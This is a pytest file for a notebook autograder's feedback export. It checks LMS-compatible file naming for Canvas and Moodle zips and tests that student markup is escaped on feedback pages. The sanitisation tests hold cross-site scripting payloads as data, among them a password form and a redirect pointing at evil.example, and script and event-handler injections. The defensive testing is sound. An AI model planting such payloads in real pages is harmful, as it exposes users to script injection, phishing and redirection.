"""Feedback back to the LMS in one upload (grader/feedback.py, feedback_zip): each graded student's
page, named as Canvas's "Re-Upload Submissions" (the user id and the id of a file of their
submission, the first two all-digit parts of the name: canvas-lms
Assignment#infer_comment_context_from_filename) and Moodle's "Upload multiple feedback files in a
zip" (<name>_<participant id>_<plugin type>_<plugin name>_...: importziplib.php) match them."""
import dataclasses
import zipfile

import pytest

from grader import pipeline
from grader.feedback import FeedbackError, feedback_zip, generate_feedback
from grader.report import save_outcomes
from support.grading import A1, grade_without_kernel, open_batch, submission_file
from support.pages import WRITTEN_ANSWER, live_markup


@pytest.fixture(scope="module")
def returned(course, tmp_path_factory):
    """Two Canvas students (one anonymous), one Moodle participant and one from a plain folder,
    graded without kernels, their feedback pages written."""
    tmp = tmp_path_factory.mktemp("feedback")
    with open_batch(course, tmp) as batch:
        batch.prepare()
        template = grade_without_kernel(submission_file(course, tmp, "template"), batch)
        students = [
            dataclasses.replace(template, student="jdoe", login="101", preset="canvas",
                                lms_name=f"doejane_LATE_101_5001_{A1}-1.ipynb"),
            dataclasses.replace(template, student="anon_acJ4Q", login="anon_acJ4Q", preset="canvas",
                                lms_name=f"anon_acJ4Q_5003_{A1}.ipynb"),
            dataclasses.replace(template, student="jsmith", login="4712", preset="moodle",
                                lms_name="John Smith_4712_assignsubmission_file_"),
            dataclasses.replace(template, student="bkim", login="bkim", preset="folder", lms_name="bkim.ipynb"),
        ]
        graded = [pipeline.record(s, batch) for s in students]
        save_outcomes(batch.course, A1, graded)
        generate_feedback(batch.course, A1)
        return batch.course, tmp


def test_canvas_names_carry_the_user_and_the_submitted_file(returned):
    course, tmp = returned
    path, count, notes = feedback_zip(course, A1, "canvas", tmp / "canvas.zip")
    assert zipfile.ZipFile(path).namelist() == [f"doejane_101_5001_{A1}-feedback.html"]
    assert count == 1
    [note] = notes
    assert "anon_acJ4Q (the download's name" in note and "jsmith (not from a canvas download)" in note
    page = zipfile.ZipFile(path).read(f"doejane_101_5001_{A1}-feedback.html").decode()
    assert "BEGIN HIDDEN TESTS" not in page and A1 in page


def test_moodle_names_carry_the_participant(returned):
    course, tmp = returned
    path, count, _ = feedback_zip(course, A1, "moodle", tmp / "moodle.zip")
    [name] = zipfile.ZipFile(path).namelist()
    assert name == f"John Smith_4712_assignsubmission_file_{A1}-feedback.html"
    assert name.split("_", 4)[1:4] == ["4712", "assignsubmission", "file"], "Moodle's explode('_', name, 5)"


def test_nothing_to_return_says_what_to_run(course, tmp_path):
    with pytest.raises(FileNotFoundError, match="run autograde first"):
        feedback_zip(course.with_grading_dir(tmp_path), A1, "canvas", tmp_path / "x.zip")
    with pytest.raises(FeedbackError, match="choose one of canvas, moodle"):
        feedback_zip(course.with_grading_dir(tmp_path), A1, "blackboard", tmp_path / "x.zip")


# ---- what a student wrote is shown, never run; a notebook feedback cannot read fails only its student ----

HOSTILE_ANSWER = WRITTEN_ANSWER + """
<script>document.title = "owned by a script"</script>
<img src="x" onerror="document.title = 'owned by onerror'">
<iframe src="https://evil.example/"></iframe>
<a href="javascript:document.title = 'owned by a link'">click</a>
<a href=" JaVaScRiPt:alert(1)">click again</a>
<svg onload="alert(1)"><circle r="4"/></svg>
<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>
<form action="https://evil.example/"><input name="password"></form>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="https://evil.example/x.swf"></object>
"""


@pytest.fixture(scope="module")
def hostile_feedback(course, tmp_path_factory):
    """alice answered in hostile markup (and added a Markdown cell of her own); mallory's answer
    cell holds the hidden-test marker twice; bob is ordinary. All three came from a Canvas download."""
    import nbformat

    from grader import cells
    tmp = tmp_path_factory.mktemp("hostile-feedback")
    with open_batch(course, tmp) as batch:
        batch.prepare()
        graded = []
        for student, login, change in (("alice", "201", "markup"), ("mallory", "202", "markers"), ("bob", "203", "")):
            submission = submission_file(course, tmp, student)
            nb = nbformat.read(str(submission.path), as_version=4)
            for cell in nb.cells:
                if change == "markup" and cells.grade_id(cell) == "written_permutation":
                    cell.source = HOSTILE_ANSWER
                if change == "markers" and cells.grade_id(cell) == "sdpa_solution":
                    cell.source += "\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN HIDDEN TESTS\n"
            if change == "markup":
                nb.cells.append(nbformat.v4.new_markdown_cell("<script>document.title = 'my own cell'</script>"))
            nbformat.write(nb, str(submission.path))
            submission = grade_without_kernel(submission, batch)
            graded.append(pipeline.record(dataclasses.replace(
                submission, login=login, preset="canvas", lms_name=f"{student}_{login}_50{login}_{A1}.ipynb"), batch))
        save_outcomes(batch.course, A1, graded)
        skipped = []
        pages = generate_feedback(batch.course, A1, skipped)
        return batch.course, tmp, {p.parts[-3]: p for p in pages}, skipped


def test_hostile_markup_in_a_written_answer_is_shown_not_run(hostile_feedback):
    _, _, pages, _ = hostile_feedback
    page = pages["alice"].read_text()
    assert not live_markup(page), live_markup(page)
    assert "&lt;script&gt;document.title = \"owned by a script\"&lt;/script&gt;" in page, "shown as text"
    assert "&lt;script&gt;document.title = 'my own cell'&lt;/script&gt;" in page, "a cell the student added too"
    # ordinary markdown still renders
    for markup in ("<strong>every</strong>", "<em>set</em>", "<code>weights.sum(-1)</code>",
                   '<a href="https://arxiv.org/abs/1706.03762">the paper</a>',
                   '<th style="text-align:left;">order</th>', '<h3 id="Why-the-permutation-does-not-matter">'):
        assert markup in page, markup


def test_a_clean_page_is_unchanged_by_the_cleaning(hostile_feedback):
    _, _, pages, _ = hostile_feedback
    page = pages["bob"].read_text()
    assert not live_markup(page)
    shown_as_text = [tag for tag in ("p", "h1", "h2", "h3", "ul", "ol", "li", "table", "em", "strong", "code", "a ",
                                     "img", "div", "span", "br", "details") if f"&lt;{tag}" in page]
    assert not shown_as_text, f"the release's own Markdown shows these tags as text: {shown_as_text}"


def test_a_notebook_feedback_cannot_read_is_named_and_everyone_else_gets_a_page(hostile_feedback):
    course, tmp, pages, skipped = hostile_feedback
    assert sorted(pages) == ["alice", "bob"]
    assert skipped == ["feedback not written for mallory: a cell of their notebook holds the hidden-test marker "
                       "'BEGIN HIDDEN TESTS' twice (nbgrader: Encountered nested begin hidden tests statements)"]
    path, count, _ = feedback_zip(course, A1, "canvas", tmp / "canvas.zip")
    assert count == 2 and sorted(zipfile.ZipFile(path).namelist()) == [f"alice_201_50201_{A1}-feedback.html",
                                                                      f"bob_203_50203_{A1}-feedback.html"]


def test_outputs_are_made_inert():
    import nbformat

    from grader.feedback_html import inert_outputs
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(...)")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<b>ok</b><img src=x onerror=alert(1)>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(1)'/>", "text/plain": "fig"}),
    ]
    nb.cells.append(cell)
    html, js, svg = inert_outputs(nb).cells[0].outputs
    assert html.data["text/html"] == '<b>ok</b><img src="x">'
    assert js.data == {"text/plain": "(an output of type application/javascript is not shown here)"}
    assert svg.data["text/html"].startswith('<img alt="A figure drawn by the code cell above; the notebook gives no '
                                            'text description of it." src="data:image/svg+xml;base64,')
    assert "image/svg+xml" not in svg.data
    assert cell.outputs[1].data == {"application/javascript": "alert(1)"}, "the notebook itself is not changed"


def _rendered_images(nb):
    """The attributes of every <img> on `nb`'s feedback page, rendered as GenerateFeedback renders it
    (nbgrader's feedback template, FeedbackExporter)."""
    from html.parser import HTMLParser
    from pathlib import Path

    import nbgrader
    from traitlets.config import Config

    from grader.feedback_html import FeedbackExporter
    formgrader = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(formgrader / "templates")]
    config.HTMLExporter.extra_template_paths = [str(formgrader / "static" / "node_modules" / "bootstrap" / "dist" / "css")]
    page, _ = FeedbackExporter(config=config).from_notebook_node(
        nb, resources={"nbgrader": {"notebook": "a1", "score": 1.0, "max_score": 2.0, "late_penalty": 0}})
    images = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: images.append(dict(attrs)) if tag == "img" else None
    parser.feed(page)
    return images


def test_a_figure_gets_the_text_of_its_figure_cell_as_alt():
    import base64

    import nbformat
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n not really an image").decode()
    nb = nbformat.v4.new_notebook()
    described, bare = (nbformat.v4.new_code_cell("plt.plot(x); plt.show()") for _ in range(2))
    for cell in (described, bare):
        cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})]
    nb.cells = [described,
                nbformat.v4.new_markdown_cell('Figure: the loss against the `step`, falling from $2.5$ to "0.5".'),
                bare, nbformat.v4.new_markdown_cell("## What the loss shows")]
    images = _rendered_images(nb)
    assert len(images) == 2, images
    assert images[0].get("alt") == 'Figure: the loss against the step, falling from 2.5 to "0.5".', images[0]
    assert images[1].get("alt") == "A figure drawn by the code cell above; the notebook gives no text description of it."
    assert "alt" not in described.outputs[0].metadata.get("image/png", {}), "the notebook itself is not changed"


def test_an_alt_the_output_carries_is_kept():
    import nbformat

    from grader.feedback_html import inert_outputs
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(Image(...))")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo="},
                                           metadata={"image/png": {"alt": "the student's own words"}})]
    nb.cells = [cell, nbformat.v4.new_markdown_cell("Figure: what the course says.")]
    assert inert_outputs(nb).cells[0].outputs[0].metadata["image/png"]["alt"] == "the student's own words"
